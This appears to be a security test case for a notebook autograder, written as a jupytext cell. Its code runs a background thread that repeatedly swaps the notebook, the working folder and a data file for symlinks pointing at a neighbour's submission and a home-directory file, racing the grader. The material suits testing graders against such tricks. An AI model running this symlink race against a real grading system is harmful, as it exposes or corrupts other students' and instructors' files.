# %% [markdown] row="A8"
# # Files are swapped for links while they are graded
#
# A neighbour's notebook or a file of the instructor's: a process swaps the notebook, the folder and data files for links, again and again.

# %% before="mean-square"
import os, threading, time
here = os.getcwd()
def swap():
    for turn in range(300):
        for name, target in (("01-victim.ipynb", "@COURSE@/submitted/@NEIGHBOUR@/01-victim/01-victim.ipynb"), ("data.txt", "@HOME@/letter.txt")):
            try:
                os.symlink(target, f"{here}/.swap")
                os.replace(f"{here}/.swap", f"{here}/{name}")
                open(f"{here}/{name}.2", "w").write("@TOKEN@")
            except OSError:
                pass
        time.sleep(0.005)
threading.Thread(target=swap, daemon=True).start()
os.makedirs("results", exist_ok=True)
try:
    os.rename(here, here + "-old")
    os.symlink("@COURSE@/submitted/@NEIGHBOUR@/01-victim", here)
except OSError as error:
    print(error)
